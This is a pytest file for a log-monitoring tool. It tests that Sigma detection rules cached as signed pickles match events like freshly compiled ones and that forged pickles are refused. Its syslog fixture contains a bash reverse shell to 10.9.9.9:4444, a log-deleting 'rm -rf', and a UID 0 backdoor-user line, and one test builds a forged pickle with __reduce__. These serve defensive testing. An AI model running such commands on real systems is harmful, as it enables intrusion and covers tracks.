"""The rules in force are compiled once and kept on disk for the next command, which then needs no
pySigma; what it reads back matches events exactly as the rules compiled afresh."""

from __future__ import annotations

import logging
import pickle
from pathlib import Path

import pytest

from lakthan.monitoring.pipeline import matches, parsers
from lakthan.monitoring.services import rules as rules_service
from tests.conftest import run_lakthan_reporting_imports

SIGMA = Path(__file__).resolve().parents[2] / "bench/logs/sigmahq"
LINES = [
    "<38>Jan  5 10:00:00 web01 sshd[11]: Accepted password for staff from 10.0.0.5 port 22 ssh2",
    "<86>Jan  5 10:00:01 web01 bash[12]: bash -i >& /dev/tcp/10.9.9.9/4444 0>&1",
    "<13>Jan  5 10:00:02 db01 root: rm -rf /var/log/syslog",
    "<13>Jan  5 10:00:03 db01 useradd[13]: new user: name=backdoor, UID=0, GID=0, home=/root",
    "<13>Jan  5 10:00:04 app01 cron[14]: (root) CMD (run-parts /etc/cron.hourly)",
]


@pytest.fixture
def kept(db):
    rules_service.import_rules(SIGMA)
    rules_service._compiled.clear()
    return rules_service


def _matched(rs) -> list:
    events = parsers.parse(LINES, "syslog", year=2026).events
    return matches.chunk_matches(events, rs).rows()


def test_the_rules_kept_match_as_the_rules_compiled(kept, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        kept.import_rules(SIGMA)  # an import keeps the set in force, once committed
    key = kept.key_in_force()
    files = list((kept.state_dir() / "compiled").glob("*.pickle"))
    assert [f.name.split("-")[0] for f in files] == [key] and files[0].stat().st_mode & 0o077 == 0
    kept._compiled.clear()
    read_back = kept.compiled_rules(key, [], {})  # nothing to compile from: it must be the kept set
    fresh = kept.compile_texts(kept.rule_sources(), kept.placeholders())
    assert [r.id for r in read_back.rules] == [r.id for r in fresh.rules] and len(fresh.rules) > 20
    assert [c.id for c in read_back.correlations] == [c.id for c in fresh.correlations]
    assert _matched(read_back) == _matched(fresh)
    assert sum(any(row[2:]) for row in _matched(fresh)) >= 3  # the attack lines match something


def test_a_damaged_file_is_compiled_again_and_replaced(kept, caplog):
    key, rs = kept.rules_in_force()
    path = kept._kept_path(key)
    path.write_bytes(b"not a pickle")
    kept._compiled.clear()
    with caplog.at_level(logging.WARNING):
        again = kept.compiled_rules(key, kept.rule_sources(), kept.placeholders())
    assert "not readable" in caplog.text
    assert [r.id for r in again.rules] == [r.id for r in rs.rules]
    assert path.read_bytes() != b"not a pickle"


def test_a_pickle_not_signed_with_the_secret_key_is_never_loaded(kept, caplog, tmp_path):
    key, rs = kept.rules_in_force()
    path = kept._kept_path(key)
    marker = tmp_path / "ran"
    evil = pickle.dumps(_Run(str(marker)))
    path.write_bytes(b"\0" * 32 + evil)
    kept._compiled.clear()
    with caplog.at_level(logging.WARNING):
        again = kept.compiled_rules(key, kept.rule_sources(), kept.placeholders())
    assert not marker.exists() and "HMAC" in caplog.text
    assert [r.id for r in again.rules] == [r.id for r in rs.rules]


class _Run:
    """Unpickling it would create a file: the proof that a forged pickle ran."""

    def __init__(self, path: str):
        self.path = path

    def __reduce__(self):
        return (Path(self.path).touch, ())


def test_the_set_of_other_rules_is_removed(kept):
    old = kept.state_dir() / "compiled" / f"{'a' * 24}-polars0-py311.pickle"
    old.parent.mkdir(parents=True, exist_ok=True)
    old.write_bytes(b"old")
    kept.rules_in_force()
    assert not old.exists() and len(list(old.parent.glob("*.pickle"))) == 1


def test_a_kept_rule_refuses_another_dialect(kept):
    key, _ = kept.rules_in_force()
    kept._compiled.clear()
    rule = kept.compiled_rules(key, [], {}).rules[0]
    with pytest.raises(ValueError, match="compile its text again"):
        rule.condition(None)


def test_detection_from_the_kept_rules_imports_no_sigma(process_env):
    def sigma_imported(*args) -> bool:
        proc, imported = run_lakthan_reporting_imports(process_env, *args)
        assert proc.returncode == 0 and imported, proc.stderr
        return "sigma" in imported

    lines = Path(process_env["LAKTHAN_HOME"]).parent / "syslog"
    lines.write_text("\n".join(LINES) + "\n")
    two = Path(process_env["LAKTHAN_HOME"]).parent / "rules"  # (an import compiles each file with the rest)
    two.mkdir()
    for name in ("lnx_susp_dev_tcp.yml", "lnx_shell_susp_rev_shells.yml"):
        (two / name).write_bytes((SIGMA / name).read_bytes())
    assert sigma_imported("logs", "rules", "import", str(two))
    assert not sigma_imported("logs", "ingest", str(lines), "--format", "syslog", "--year", "2026")
    assert not sigma_imported("logs", "seal")
    assert not sigma_imported("logs", "detect")
    proc, _ = run_lakthan_reporting_imports(process_env, "logs", "detect", "--json")
    assert "Suspicious Use of /dev/tcp" in proc.stdout
